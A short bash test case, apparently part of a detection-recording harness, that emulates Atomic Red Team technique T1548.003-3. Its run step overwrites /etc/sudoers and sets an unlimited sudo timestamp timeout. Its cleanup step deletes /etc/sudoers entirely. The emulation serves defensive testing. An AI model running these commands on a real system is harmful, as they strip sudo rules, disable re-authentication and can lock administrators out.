#!/usr/bin/env bash
# Atomic Red Team T1548.003-3: Unlimited sudo cache timeout
# atomic GUID a7b17659-dd5e-46f7-b7d1-e6792c91d0bc; technique T1548.003
# record.sh runs `case.sh run DIR` under the agent (recorded), then `case.sh cleanup DIR`.
W="${2:?usage: $0 run|cleanup DIR}"
cd "$W" || exit 1
run() {
    echo "Defaults env_reset" > /etc/sudoers
    sed -i 's/env_reset.*$/env_reset,timestamp_timeout=-1/' /etc/sudoers
    visudo -c -f /etc/sudoers >/dev/null 2>&1
}
cleanup() {
    rm -f /etc/sudoers
}
"$1"
